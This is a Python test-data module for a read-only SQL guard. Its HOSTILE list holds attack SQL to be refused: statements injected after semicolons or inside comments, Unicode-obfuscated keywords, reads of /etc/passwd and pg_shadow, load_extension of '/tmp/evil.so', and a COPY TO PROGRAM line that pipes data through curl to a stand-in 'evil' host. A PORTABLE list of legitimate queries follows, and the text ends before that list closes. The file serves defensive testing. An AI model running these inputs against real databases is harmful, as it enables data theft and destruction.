"""SQL the read-only guard must refuse (HOSTILE) and must pass (LEGIT).

Data only, shared by the guard and SQL server tests and ``benchmarks/sql_guard.py``.

- ``HOSTILE``: ``(dialect, sql, rules)``; ``rules`` holds every ``SqlRefused.rule`` that is
  a right answer. Usually that is one rule. Where sqlglot releases take different parser
  paths it is two: the rule for what the statement is, and ``parse_error`` for a release
  that cannot parse it (30.30 fails on ``RELEASE SAVEPOINT a``, 30.31 parses it as
  transaction control). ``ANY`` (every rule in ``RULES``) is for input where no rule is more
  right than another. Checked with ``allowed_tables=ALLOWED_TABLES``.
- ``RULES``: every rule name ``guard_sql`` refuses with.
- ``LEGIT``: ``(dialect, sql)``; the dialect says where the query is valid and runnable
  against the Acme schema (``examples/acme/generate_db.py``: dates are ISO ``TEXT``,
  prices ``REAL``). ``PORTABLE`` queries run on both SQLite and PostgreSQL and appear
  once per dialect; the others are valid only in the dialect they name.
- ``MEMORY_HOGS``: ``(dialect, layer, sql)``, read-only queries the guard's other rules
  pass that build or return hundreds of MB, each stopped by a size limit (4 MiB values and
  rows, 16 MiB per result, by default). ``layer`` is the first that stops it: ``guard`` (a
  literal size, rule ``too_large``), ``database`` (SQLite's limits, PostgreSQL's row check
  or its own), or ``engine`` (the bytes a result pulls into ragbox). Sizes that come from
  data (``(SELECT count(*) FROM orders) * 75000``) are how a query hides one from the guard.
  The PostgreSQL ones stay near 100 MB, since PostgreSQL builds a value before it can be
  measured; the SQLite ones ask for up to 1 GB, SQLite's own default limit.
"""

from __future__ import annotations

__all__ = ["ALLOWED_TABLES", "ANY", "HOSTILE", "LEGIT", "MEMORY_HOGS", "PORTABLE", "RULES"]

ALLOWED_TABLES = frozenset(
    {"regions", "employees", "customers", "products", "orders", "order_items", "invoices"}
)

RULES = frozenset({
    "empty", "invalid_character", "parse_error", "one_statement", "comment", "read_only",
    "transaction_control", "session_setting", "pragma", "attach", "explain", "select_into",
    "locking_clause", "denied_function", "system_catalog", "table_not_allowed",
    "unsupported_syntax", "render_mismatch", "too_long", "too_complex", "too_large",
})  # fmt: skip
ANY = RULES

PG, LITE = "postgres", "sqlite"
BOTH = (LITE, PG)

Rules = str | frozenset[str]  # one rule, or the set of right ones


def _both(sql: str, rules: Rules) -> list[tuple[str, str, Rules]]:
    return [(dialect, sql, rules) for dialect in BOTH]


def _either(*rules: str) -> frozenset[str]:
    return frozenset(rules)


_HOSTILE: list[tuple[str, str, Rules]] = [
    # --- empty, unparsable, odd characters -------------------------------------------
    (LITE, "", "empty"),
    (PG, "   \n\t  ", "empty"),
    (PG, "-- only a comment", "empty"),
    (LITE, "/* DROP TABLE customers */", "empty"),
    (LITE, ";", "empty"),
    *_both("SELECT 'unterminated", "parse_error"),
    (PG, 'SELECT "unterminated FROM customers', "parse_error"),
    (LITE, "SELECT * FROM", "parse_error"),
    (LITE, "DR/**/OP TABLE customers", "parse_error"),
    (PG, "SEL/**/ECT * FROM customers", ANY),
    (LITE, "SELECT 1；DROP TABLE customers", "parse_error"),  # fullwidth semicolon
    (PG, "DRОP TABLE customers", "parse_error"),  # Cyrillic O
    (PG, "ＳＥＬＥＣＴ 1", "parse_error"),  # fullwidth keyword
    (PG, "SELECT 1\x00; DROP TABLE customers", "invalid_character"),
    (LITE, "SELECT name FROM customers\x00", "invalid_character"),
    (PG, "RELEASE SAVEPOINT a", _either("transaction_control", "parse_error")),
    (PG, "SECURITY LABEL ON TABLE customers IS 'x'", _either("read_only", "parse_error")),
    (PG, "IMPORT FOREIGN SCHEMA s FROM SERVER x INTO public",
     _either("read_only", "parse_error")),
    # --- more than one statement ------------------------------------------------------
    *_both("SELECT 1; COMMIT; DROP TABLE t", "one_statement"),
    *_both("SELECT 1; DROP TABLE customers", "one_statement"),
    (LITE, "SELECT 1;DROP TABLE customers--", "one_statement"),
    (PG, "SELECT * FROM customers; DELETE FROM orders", "one_statement"),
    (LITE, "SELECT 1; SELECT 2", "one_statement"),
    (PG, "SET TRANSACTION READ WRITE; INSERT INTO orders VALUES (1, 1, 1, '2024-01-01', 'x')",
     "one_statement"),
    (PG, "BEGIN; DROP TABLE customers; COMMIT", "one_statement"),
    (LITE, "SELECT 1 /* ; */; DROP TABLE customers", "one_statement"),
    (PG, "SELECT $$a$$; DROP TABLE customers", "one_statement"),
    # standard_conforming_strings: a backslash does not escape the quote
    *_both("SELECT '\\'; DROP TABLE customers; --'", "one_statement"),
    (PG, "SELECT * FROM customers WHERE name = E'\\\\'; DROP TABLE t; --'", "one_statement"),
    (LITE, "SELECT 1;\nPRAGMA query_only(0)", "one_statement"),
    (PG, "SELECT 1 /* \u202e */; DROP TABLE customers", "one_statement"),  # RTL override
    (PG, "SELECT 1\u00a0; DROP TABLE customers", ANY),  # no-break space
    (LITE, "CREATE TRIGGER tr AFTER INSERT ON orders BEGIN DELETE FROM orders; END", ANY),
    # --- a statement hidden in a comment ----------------------------------------------
    *_both("SELECT 1--1;DROP TABLE t", "comment"),
    (LITE, "SELECT 1\n--1;DROP TABLE t", "comment"),
    (PG, "SELECT 1; -- c; DROP TABLE t", "comment"),
    (LITE, "SELECT * FROM customers -- x; DROP TABLE customers", "comment"),
    (PG, "SELECT /* ;DELETE FROM orders */ 1", "comment"),
    # --- DML and DDL at the root ------------------------------------------------------
    *_both("INSERT INTO regions VALUES (9, 'x', 'y')", "read_only"),
    *_both("UPDATE orders SET status = 'shipped'", "read_only"),
    *_both("DELETE FROM invoices", "read_only"),
    *_both("DROP TABLE customers", "read_only"),
    *_both("ALTER TABLE customers ADD COLUMN x INT", "read_only"),
    *_both("CREATE TABLE x (a INT)", "read_only"),
    *_both("CREATE TABLE x AS SELECT * FROM customers", "read_only"),
    *_both("CREATE VIEW v AS SELECT 1", "read_only"),
    *_both("CREATE INDEX i ON customers(name)", "read_only"),
    (PG, "MERGE INTO orders o USING customers c ON o.customer_id = c.customer_id "
         "WHEN MATCHED THEN DELETE", "read_only"),
    (PG, "TRUNCATE orders", "read_only"),
    (PG, "DROP DATABASE acme", "read_only"),
    (PG, "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", "read_only"),
    (PG, "CREATE EXTENSION dblink", "read_only"),
    (PG, "CREATE ROLE x SUPERUSER", "read_only"),
    (PG, "ALTER ROLE x SUPERUSER", "read_only"),
    (PG, "ALTER SYSTEM SET fsync = off", "read_only"),
    (PG, "COMMENT ON TABLE customers IS 'x'", "read_only"),
    (PG, "GRANT ALL ON customers TO PUBLIC", "read_only"),
    (PG, "GRANT ALL ON SCHEMA public TO PUBLIC", "read_only"),
    (PG, "REVOKE ALL ON customers FROM PUBLIC", "read_only"),
    (LITE, "REPLACE INTO regions VALUES (1, 'x', 'y')", "read_only"),
    (LITE, "INSERT OR REPLACE INTO regions VALUES (1, 'x', 'y')", "read_only"),
    (LITE, "INSERT INTO regions DEFAULT VALUES", "read_only"),
    (LITE, "INSERT INTO regions VALUES (1, 'x', 'y') ON CONFLICT DO NOTHING", "read_only"),
    (LITE, "UPDATE orders SET status = 'x' RETURNING *", "read_only"),
    (LITE, "iNsErT iNtO regions VALUES (9, 'x', 'y')", "read_only"),
    # --- maintenance, server and procedural statements --------------------------------
    *_both("VACUUM", "read_only"),
    (LITE, "VACUUM INTO '/tmp/x'", "read_only"),
    (PG, "VACUUM FULL customers", "read_only"),
    *_both("ANALYZE", "read_only"),
    (PG, "ANALYZE customers", "read_only"),
    (LITE, "REINDEX", "read_only"),
    (PG, "REINDEX TABLE customers", "read_only"),
    (PG, "CLUSTER customers", "read_only"),
    (PG, "CHECKPOINT", "read_only"),
    (PG, "REFRESH MATERIALIZED VIEW v", "read_only"),
    (PG, "COPY customers TO PROGRAM 'curl http://evil/ -d @-'", "read_only"),
    (PG, "COPY (SELECT * FROM customers) TO '/tmp/x'", "read_only"),
    (PG, "COPY customers FROM STDIN", "read_only"),
    (PG, "CALL p()", "read_only"),
    (PG, "CALL pg_sleep(1)", "read_only"),
    (PG, "DO $$ BEGIN DELETE FROM orders; END $$", "read_only"),
    (PG, "LOCK TABLE customers", _either("read_only", "parse_error")),  # 30.10 cannot parse it
    (PG, "NOTIFY ch", "read_only"),
    (PG, "LISTEN ch", "read_only"),
    (PG, "PREPARE p AS SELECT 1", "read_only"),
    (PG, "EXECUTE p", "read_only"),
    (PG, "DECLARE c CURSOR FOR SELECT 1", "read_only"),
    (PG, "LOAD 'plpgsql'", "read_only"),
    (PG, "SHOW search_path", "read_only"),
    # --- transaction control ----------------------------------------------------------
    *_both("BEGIN", "transaction_control"),
    *_both("COMMIT", "transaction_control"),
    *_both("ROLLBACK", "transaction_control"),
    *_both("SAVEPOINT a", "transaction_control"),
    (PG, "START TRANSACTION", "transaction_control"),
    (PG, "START TRANSACTION READ WRITE", ANY),
    (PG, "BEGIN TRANSACTION READ WRITE", "transaction_control"),
    (PG, "ROLLBACK TO SAVEPOINT a", "transaction_control"),
    (PG, "END", _either("transaction_control", "read_only")),  # 30.0 reads no keyword
    (PG, "ABORT", "transaction_control"),
    (LITE, "BEGIN IMMEDIATE", "transaction_control"),
    (LITE, "COMMIT TRANSACTION", "transaction_control"),
    # --- session settings -------------------------------------------------------------
    (PG, "SET statement_timeout = 0", "session_setting"),
    (PG, "SET default_transaction_read_only = off", "session_setting"),
    (PG, "SET TRANSACTION READ WRITE", "session_setting"),
    (PG, "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "session_setting"),
    (PG, "SET LOCAL statement_timeout = 0", "session_setting"),
    (PG, "SET ROLE postgres", "session_setting"),
    (PG, "SET SESSION AUTHORIZATION postgres", "session_setting"),
    (PG, "set search_path = evil, public", "session_setting"),
    (PG, "RESET ALL", "session_setting"),
    (PG, "RESET default_transaction_read_only", "session_setting"),
    (PG, "DISCARD ALL", "session_setting"),
    # --- SQLite PRAGMA, ATTACH, DETACH ------------------------------------------------
    (LITE, "PRAGMA query_only(0)", "pragma"),
    (LITE, "PRAGMA query_only = 0", "pragma"),
    (LITE, "PRAGMA query_only=OFF", "pragma"),
    (LITE, "pragma QUERY_ONLY(false)", "pragma"),
    (LITE, "PRAGMA writable_schema=1", "pragma"),
    (LITE, "PRAGMA main.journal_mode=DELETE", "pragma"),
    (LITE, "PRAGMA table_info(customers)", "pragma"),
    (LITE, "ATTACH DATABASE '/tmp/x' AS x", "attach"),
    (LITE, "ATTACH '/tmp/x.db' AS x", "attach"),
    (LITE, "attach 'file:/tmp/x?mode=rwc' as y", "attach"),
    (LITE, "DETACH DATABASE x", "attach"),
    (LITE, "DETACH x", "attach"),
    # --- EXPLAIN ----------------------------------------------------------------------
    (PG, "EXPLAIN ANALYZE DELETE FROM orders", "explain"),
    (PG, "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM orders", "explain"),
    (PG, "explain analyze select pg_sleep(10)", "explain"),
    (PG, "EXPLAIN SELECT * FROM customers", "explain"),
    (LITE, "EXPLAIN QUERY PLAN SELECT * FROM customers", "explain"),
    (LITE, "EXPLAIN SELECT 1", "explain"),
    # --- writes hidden below a SELECT root ---------------------------------------------
    (PG, "WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x", "read_only"),
    (PG, "WITH x AS (INSERT INTO regions VALUES (9, 'x', 'y') RETURNING *) SELECT * FROM x",
     "read_only"),
    (PG, "WITH x AS (UPDATE orders SET status = 'x' RETURNING *) SELECT count(*) FROM x",
     "read_only"),
    (PG, "WITH RECURSIVE x AS (UPDATE orders SET status = 'x' RETURNING *) SELECT * FROM x",
     "read_only"),
    (PG, "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5), "
         "u AS (UPDATE orders SET status = 'x' RETURNING 1) SELECT * FROM r", "read_only"),
    (PG, "WITH a AS (SELECT 1), b AS (MERGE INTO orders USING customers ON true "
         "WHEN MATCHED THEN DELETE RETURNING *) SELECT 1", ANY),
    (PG, "SELECT * FROM customers WHERE customer_id IN (WITH d AS (DELETE FROM orders "
         "RETURNING customer_id) SELECT customer_id FROM d)", "read_only"),
    (PG, "with X as (delete from ORDERS returning *) select * from X", "read_only"),
    (PG, "WITH x AS (DELETE FROM orders RETURNING *) SELECT 1 UNION SELECT 2", "read_only"),
    (LITE, "WITH x AS (SELECT 1) DELETE FROM orders", "read_only"),
    (LITE, "WITH x AS (SELECT 1) INSERT INTO regions SELECT 9, 'x', 'y'", "read_only"),
    (PG, "SELECT * FROM (DELETE FROM orders RETURNING *) s", _either("read_only", "parse_error")),
    # --- SELECT INTO and locking clauses ----------------------------------------------
    (PG, "SELECT * INTO newtable FROM customers", "select_into"),
    (PG, "SELECT * INTO TEMP newtable FROM customers", "select_into"),
    (PG, "SELECT * INTO UNLOGGED TABLE n FROM customers", "select_into"),
    (PG, "SELECT 1 INTO x UNION SELECT 2", "select_into"),
    (PG, "SELECT * FROM customers FOR UPDATE", "locking_clause"),
    (PG, "SELECT * FROM customers FOR SHARE", "locking_clause"),
    (PG, "SELECT 1 FROM customers FOR NO KEY UPDATE", "locking_clause"),
    (PG, "SELECT 1 FROM customers FOR KEY SHARE SKIP LOCKED", "locking_clause"),
    (PG, "SELECT 1 FROM customers FOR UPDATE OF customers NOWAIT", "locking_clause"),
    (PG, "SELECT (SELECT 1 FROM orders LIMIT 1 FOR UPDATE)", "locking_clause"),
    (PG, "SELECT * FROM customers WHERE customer_id IN "
         "(SELECT customer_id FROM orders FOR SHARE)", "locking_clause"),
    (PG, "WITH x AS (SELECT * FROM customers FOR UPDATE) SELECT * FROM x", "locking_clause"),
    (PG, "SELECT * FROM customers c JOIN LATERAL (SELECT * FROM orders o "
         "WHERE o.customer_id = c.customer_id FOR UPDATE) x ON true", "locking_clause"),
    # --- denied functions, PostgreSQL -------------------------------------------------
    (PG, "SELECT * FROM pg_read_file('/etc/passwd')", "denied_function"),
    (PG, "SELECT pg_read_file('/etc/passwd', 0, 100)", "denied_function"),
    (PG, "SELECT pg_read_binary_file('/etc/passwd')", "denied_function"),
    (PG, "SELECT * FROM pg_ls_dir('.')", "denied_function"),
    (PG, "SELECT * FROM pg_ls_logdir()", "denied_function"),
    (PG, "SELECT * FROM pg_ls_waldir()", "denied_function"),
    (PG, "SELECT pg_stat_file('postgresql.conf')", "denied_function"),
    (PG, "SELECT lo_import('/etc/passwd')", "denied_function"),
    (PG, "SELECT * FROM lo_import('/etc/passwd')", "denied_function"),
    (PG, "SELECT lo_export(1234, '/tmp/x')", "denied_function"),
    (PG, "SELECT lo_get(1234)", "denied_function"),
    (PG, "SELECT lo_from_bytea(0, 'x')", "denied_function"),
    (PG, "SELECT lo_unlink(1234)", "denied_function"),
    (PG, "SELECT * FROM dblink('host=x', 'delete from orders') AS r(a int)", "denied_function"),
    (PG, "SELECT dblink_exec('host=x', 'drop table customers')", "denied_function"),
    (PG, "SELECT dblink_connect('x')", "denied_function"),
    (PG, "SELECT pg_sleep(10)", "denied_function"),
    (PG, "SELECT pg_sleep_for('5 minutes')", "denied_function"),
    (PG, "SELECT pg_sleep_until('tomorrow')", "denied_function"),
    (PG, "SELECT set_config('default_transaction_read_only','off',false)", "denied_function"),
    (PG, "SELECT set_config('statement_timeout', '0', false)", "denied_function"),
    (PG, "SELECT nextval('orders_order_id_seq')", "denied_function"),
    (PG, "SELECT setval('orders_order_id_seq', 1)", "denied_function"),
    (PG, "SELECT pg_terminate_backend(1)", "denied_function"),
    (PG, "SELECT pg_cancel_backend(1)", "denied_function"),
    (PG, "SELECT pg_reload_conf()", "denied_function"),
    (PG, "SELECT pg_rotate_logfile()", "denied_function"),
    (PG, "SELECT pg_logical_emit_message(true, 'x', 'y')", "denied_function"),
    (PG, "SELECT query_to_xml('select * from secrets', true, false, '')", "denied_function"),
    (PG, "SELECT query_to_xml_and_xmlschema('delete from orders', true, false, '')",
     "denied_function"),
    (PG, "SELECT table_to_xml('secrets', true, false, '')", "denied_function"),
    (PG, "SELECT table_to_xmlschema('secrets', true, false, '')", "denied_function"),
    (PG, "SELECT cursor_to_xml('c', 1, true, false, '')", "denied_function"),
    (PG, "SELECT database_to_xml(true, false, '')", "denied_function"),
    (PG, "SELECT schema_to_xml('public', true, false, '')", "denied_function"),
    (PG, "SELECT ts_stat('select to_tsvector(name) from secrets')", "denied_function"),
    (PG, "SELECT pg_advisory_lock(1)", "denied_function"),
    (PG, "SELECT pg_try_advisory_xact_lock(1)", "denied_function"),
    (PG, "SELECT txid_current()", "denied_function"),
    (PG, "SELECT pg_current_xact_id()", "denied_function"),
    (PG, "SELECT pg_notify('ch', 'x')", "denied_function"),
    (PG, "SELECT pg_file_write('/tmp/x', 'y', false)", "denied_function"),
    (PG, "SELECT pg_promote()", "denied_function"),
    (PG, "SELECT pg_switch_wal()", "denied_function"),
    (PG, "SELECT pg_create_logical_replication_slot('s', 'test_decoding')", "denied_function"),
    (PG, "SELECT pg_stat_reset()", "denied_function"),
    # case, quoting, qualification and escapes around the name
    (PG, "SELECT PG_SLEEP(1)", "denied_function"),
    (PG, "SELECT Pg_Sleep(1)", "denied_function"),
    (PG, 'SELECT "pg_sleep"(5)', "denied_function"),
    (PG, 'SELECT "PG_SLEEP"(1)', "denied_function"),
    (PG, "SELECT pg_catalog.pg_sleep(5)", "denied_function"),
    (PG, 'SELECT pg_catalog."pg_sleep"(1)', "denied_function"),
    (PG, "SELECT public.nextval('s')", "denied_function"),
    (PG, 'SELECT "pg_catalog.pg_sleep"(1)', "denied_function"),
    (PG, 'SELECT U&"\\0070g_sleep"(5)', "denied_function"),
    (PG, 'SELECT U&"pg\\+00005fsleep"(5)', "denied_function"),
    (PG, 'SELECT "ｐｇ_ｓｌｅｅｐ"(5)', "denied_function"),  # fullwidth, NFKC-folded
    (PG, "SELECT pg_sl\u200beep(5)", "denied_function"),  # zero-width space
    (PG, "SELECT pg_sleep/**/(1)", "denied_function"),
    (PG, "SELECT pg_sleep\n(1)", "denied_function"),
    # everywhere a function can stand
    (PG, "SELECT * FROM customers c, LATERAL pg_ls_dir('.') AS f", "denied_function"),
    (PG, "SELECT * FROM customers, pg_ls_dir('.') AS f", "denied_function"),
    (PG, "SELECT * FROM ROWS FROM (pg_ls_dir('.'))", "denied_function"),
    (PG, "SELECT name FROM customers WHERE pg_sleep(1) IS NULL", "denied_function"),
    (PG, "SELECT name FROM customers ORDER BY pg_sleep(1)", "denied_function"),
    (PG, "SELECT region_id FROM customers GROUP BY region_id HAVING pg_sleep(1) IS NULL",
     "denied_function"),
    (PG, "SELECT * FROM customers c JOIN orders o ON pg_sleep(1) IS NULL", "denied_function"),
    (PG, "SELECT row_number() OVER (PARTITION BY pg_sleep(1)) FROM customers",
     "denied_function"),
    (PG, "SELECT CASE WHEN true THEN pg_read_file('x') END", "denied_function"),
    (PG, "SELECT coalesce(NULL, lower(pg_read_file('/etc/passwd')))", "denied_function"),
    (PG, "SELECT pg_sleep(1)::text", "denied_function"),
    (PG, "SELECT (SELECT (SELECT pg_sleep(1)))", "denied_function"),
    (PG, "SELECT 1 WHERE 1 = ANY(SELECT nextval('s'))", "denied_function"),
    (PG, "SELECT * FROM customers WHERE EXISTS (SELECT 1 FROM lo_import('/etc/passwd'))",
     "denied_function"),
    (PG, "SELECT * FROM (SELECT * FROM (SELECT pg_read_file('/etc/passwd') AS f) a) b",
     "denied_function"),
    (PG, "WITH x AS (SELECT pg_read_file('/etc/passwd') AS f) SELECT * FROM x",
     "denied_function"),
    (PG, "SELECT 1 UNION SELECT pg_sleep(1)", "denied_function"),
    (PG, "VALUES (pg_sleep(1))", "denied_function"),
    (PG, "SELECT (pg_read_file('/etc/passwd', 0, 100)).x", "denied_function"),
    # --- denied functions, SQLite (and names from other dialects) ---------------------
    (LITE, "SELECT load_extension('/tmp/evil.so')", "denied_function"),
    (LITE, "SELECT LOAD_EXTENSION('/tmp/evil.so', 'entry')", "denied_function"),
    (LITE, 'SELECT "load_extension"(\'x\')', "denied_function"),
    (LITE, "SELECT [load_extension]('x')", "denied_function"),
    (LITE, "SELECT `load_extension`('x')", "denied_function"),
    (LITE, "SELECT readfile('/etc/passwd')", "denied_function"),
    (LITE, "SELECT writefile('/tmp/x', 'data')", "denied_function"),
    (LITE, "SELECT edit('text', 'vi')", "denied_function"),
    (LITE, "SELECT fts3_tokenizer('simple')", "denied_function"),
    (LITE, "SELECT * FROM fsdir('/')", "denied_function"),
    (LITE, "SELECT * FROM zipfile('/tmp/x.zip')", "denied_function"),
    (LITE, "SELECT name FROM customers WHERE readfile('/etc/passwd') IS NOT NULL",
     "denied_function"),
    (LITE, "WITH x AS (SELECT writefile('/tmp/x', name) FROM customers) SELECT * FROM x",
     "denied_function"),
    (LITE, "SELECT name FROM customers ORDER BY load_extension('x')", "denied_function"),
    (LITE, "VALUES (readfile('/etc/passwd'))", "denied_function"),
    (LITE, "SELECT pg_sleep(1)", "denied_function"),
    (LITE, "SELECT set_config('a', 'b', false)", "denied_function"),
    (LITE, "SELECT sleep(10)", "denied_function"),
    (LITE, "SELECT load_file('/etc/passwd')", "denied_function"),
    # --- system catalogs --------------------------------------------------------------
    (LITE, "SELECT * FROM sqlite_master", "system_catalog"),
    (LITE, "SELECT sql FROM sqlite_schema", "system_catalog"),
    (LITE, "SELECT * FROM sqlite_temp_master", "system_catalog"),
    (LITE, "SELECT * FROM main.sqlite_master", "system_catalog"),
    (LITE, "SELECT * FROM temp.sqlite_master", "system_catalog"),
    (LITE, 'SELECT * FROM "SQLITE_MASTER"', "system_catalog"),
    (LITE, 'SELECT * FROM "sqlite_\u200bmaster"', "system_catalog"),
    (LITE, "SELECT * FROM sqlite_dbpage", "system_catalog"),
    (LITE, "SELECT * FROM sqlite_sequence", "system_catalog"),
    (LITE, "SELECT * FROM dbstat", "system_catalog"),
    (LITE, "SELECT * FROM pragma_table_info('customers')", "system_catalog"),
    (LITE, "SELECT name FROM pragma_database_list", "system_catalog"),
    (LITE, "SELECT name FROM customers WHERE name IN (SELECT name FROM sqlite_master)",
     "system_catalog"),
    (PG, "SELECT * FROM pg_catalog.pg_authid", "system_catalog"),
    (PG, "SELECT usename, passwd FROM pg_shadow", "system_catalog"),
    (PG, "SELECT * FROM pg_user", "system_catalog"),
    (PG, "SELECT * FROM pg_settings", "system_catalog"),
    (PG, "SELECT query FROM pg_stat_activity", "system_catalog"),
    (PG, "SELECT * FROM information_schema.tables", "system_catalog"),
    (PG, "SELECT column_name FROM information_schema.columns", "system_catalog"),
    (PG, "SELECT * FROM INFORMATION_SCHEMA.TABLES", "system_catalog"),
    (PG, "SELECT * FROM customers c JOIN pg_catalog.pg_class r ON r.oid = c.customer_id",
     "system_catalog"),
    (PG, "WITH t AS (SELECT * FROM pg_roles) SELECT * FROM t", "system_catalog"),
    # --- tables outside the allow-list ------------------------------------------------
    *_both("SELECT * FROM secrets", "table_not_allowed"),
    (PG, "SELECT * FROM public.secrets", "table_not_allowed"),
    (PG, 'SELECT * FROM "Secrets"', "table_not_allowed"),
    (PG, "SELECT * FROM customers c JOIN secrets s ON s.id = c.customer_id",
     "table_not_allowed"),
    (PG, "SELECT * FROM customers WHERE customer_id IN (SELECT id FROM secrets)",
     "table_not_allowed"),
    (PG, "SELECT (SELECT max(x) FROM secrets) FROM customers", "table_not_allowed"),
    (PG, "SELECT * FROM customers c, LATERAL (SELECT * FROM secrets) s", "table_not_allowed"),
    (LITE, "SELECT name FROM customers UNION SELECT password FROM users", "table_not_allowed"),
    (LITE, "WITH x AS (SELECT * FROM secrets) SELECT * FROM x", "table_not_allowed"),
    # a CTE is visible only in its own scope and to later siblings: these name real tables
    (PG, "SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s, secrets",
     "table_not_allowed"),
    (PG, "WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a",
     "table_not_allowed"),
    (PG, "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets", "table_not_allowed"),
]
HOSTILE: list[tuple[str, str, frozenset[str]]] = [
    (dialect, sql, frozenset({rules}) if isinstance(rules, str) else rules)
    for dialect, sql, rules in _HOSTILE
]

# Valid in both SQLite (3.40) and PostgreSQL (15) against the Acme schema.
PORTABLE: list[str] = [
    "SELECT * FROM customers",
    "SELECT customer_id, name, industry FROM customers WHERE region_id = 3",
    "SELECT name, email FROM customers WHERE industry = 'Healthcare' ORDER BY name",
    "select name from customers where name like 'North%'",
    "SELECT DISTINCT industry FROM customers ORDER BY industry",
    "SELECT count(*) FROM orders",
    "SELECT status, count(*) AS n FROM orders GROUP BY status ORDER BY n DESC",
    "SELECT region_id, count(*) FROM customers GROUP BY region_id HAVING count(*) > 10",
    "SELECT * FROM products ORDER BY unit_price DESC LIMIT 5",
    "SELECT * FROM products ORDER BY unit_price DESC LIMIT 5 OFFSET 5",
    "SELECT * FROM orders ORDER BY order_date DESC LIMIT 10000",
    "SELECT category, min(unit_price), max(unit_price), avg(unit_price) FROM products "
    "GROUP BY category",
    "SELECT c.name, r.name AS region FROM customers c JOIN regions r "
    "ON r.region_id = c.region_id",
    "SELECT c.name, count(o.order_id) FROM customers c LEFT JOIN orders o "
    "ON o.customer_id = c.customer_id GROUP BY c.name",
    "SELECT e.name, m.name AS manager FROM employees e LEFT JOIN employees m "
    "ON m.employee_id = e.manager_id",
    "SELECT o.order_id, sum(oi.quantity * oi.unit_price) AS total FROM orders o "
    "JOIN order_items oi ON oi.order_id = o.order_id GROUP BY o.order_id",
    "SELECT p.category, sum(oi.quantity) FROM order_items oi JOIN products p "
    "USING (product_id) GROUP BY p.category",
    "SELECT * FROM invoices WHERE paid_on IS NULL AND status = 'overdue'",
    "SELECT invoice_id, amount FROM invoices WHERE amount BETWEEN 1000 AND 5000",
    "SELECT * FROM orders WHERE order_date >= '2024-01-01' AND order_date < '2024-04-01'",
    "SELECT * FROM orders WHERE status IN ('pending', 'cancelled')",
    "SELECT * FROM orders WHERE status NOT IN ('shipped')",
    "SELECT name FROM customers WHERE customer_id IN "
    "(SELECT customer_id FROM orders WHERE status = 'cancelled')",
    "SELECT name FROM customers c WHERE EXISTS "
    "(SELECT 1 FROM orders o WHERE o.customer_id = c.customer_id)",
    "SELECT name FROM customers c WHERE NOT EXISTS "
    "(SELECT 1 FROM orders o WHERE o.customer_id = c.customer_id)",
    "SELECT name, (SELECT count(*) FROM orders o WHERE o.customer_id = c.customer_id) "
    "AS n_orders FROM customers c",
    "SELECT * FROM (SELECT customer_id, count(*) AS n FROM orders GROUP BY customer_id) t "
    "WHERE n > 50",
    "SELECT name, CASE WHEN unit_price > 500 THEN 'premium' WHEN unit_price > 100 "
    "THEN 'standard' ELSE 'budget' END AS tier FROM products",
    "SELECT sum(CASE WHEN status = 'paid' THEN amount ELSE 0 END) AS paid FROM invoices",
    "SELECT coalesce(paid_on, 'unpaid') FROM invoices",
    "SELECT nullif(status, 'open') FROM invoices",
    "SELECT upper(name), lower(email), length(name) FROM customers",
    "SELECT replace(name, 'Inc', 'Incorporated') FROM customers",
    "SELECT trim(name), substr(sku, 1, 3) FROM products",
    "SELECT name || ' <' || email || '>' AS contact FROM employees",
    "SELECT abs(amount - 100) FROM invoices",
    "SELECT round(CAST(avg(amount) AS NUMERIC), 2) FROM invoices",
    "SELECT CAST(unit_price AS INTEGER) FROM products",
    "SELECT substr(CAST(order_date AS TEXT), 1, 7) AS month, count(*) FROM orders "
    "GROUP BY 1 ORDER BY 1",
    "SELECT name, row_number() OVER (ORDER BY unit_price DESC) AS rank FROM products",
    "SELECT name, category, rank() OVER (PARTITION BY category ORDER BY unit_price) "
    "FROM products",
    "SELECT order_id, sum(quantity) OVER (PARTITION BY order_id) FROM order_items",
    "SELECT invoice_id, amount, lag(amount) OVER (ORDER BY issued_on) FROM invoices",
    "SELECT invoice_id, sum(amount) OVER (ORDER BY issued_on ROWS BETWEEN 2 PRECEDING "
    "AND CURRENT ROW) FROM invoices",
    "SELECT dense_rank() OVER w, name FROM products WINDOW w AS (ORDER BY unit_price)",
    "SELECT count(*) FILTER (WHERE status = 'paid') AS paid, count(*) AS all_invoices "
    "FROM invoices",
    "SELECT count(DISTINCT customer_id) FROM orders",
    "WITH big AS (SELECT * FROM orders WHERE status = 'shipped') SELECT count(*) FROM big",
    "WITH a AS (SELECT customer_id FROM orders), b AS (SELECT customer_id FROM a) "
    "SELECT count(*) FROM b",
    "WITH RECURSIVE chain(employee_id, manager_id, depth) AS (SELECT employee_id, "
    "manager_id, 0 FROM employees WHERE manager_id IS NULL UNION ALL SELECT e.employee_id, "
    "e.manager_id, c.depth + 1 FROM employees e JOIN chain c ON e.manager_id = c.employee_id) "
    "SELECT * FROM chain",
    "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10) "
    "SELECT i FROM n",
    "WITH orders AS (SELECT 1 AS order_id) SELECT * FROM orders",  # CTE shadows a table
    "SELECT name FROM customers UNION SELECT name FROM employees",
    "SELECT region_id FROM customers UNION ALL SELECT region_id FROM employees",
    "SELECT region_id FROM customers INTERSECT SELECT region_id FROM employees",
    "SELECT region_id FROM regions EXCEPT SELECT region_id FROM customers",
    "SELECT name FROM customers UNION SELECT name FROM employees ORDER BY name LIMIT 20",
    "VALUES (1, 'a'), (2, 'b')",
    "SELECT * FROM (VALUES (1, 'one'), (2, 'two')) AS v(n, word)",
    'SELECT "name", "email" FROM "customers"',
    'SELECT c."name" AS "Customer Name" FROM customers AS c',
    "SELECT name FROM customers WHERE name = 'DROP TABLE customers'",
    "SELECT name FROM customers WHERE name = 'x''; DELETE FROM orders; --'",
    "SELECT 'pg_sleep(10)' AS not_a_call, 'PRAGMA query_only(0)' AS text",
    "SELECT name FROM customers -- DROP TABLE customers",
    "SELECT /* DELETE FROM orders */ name FROM customers",
    "SELECT name FROM customers;",
    "SELECT name FROM customers; -- trailing note",
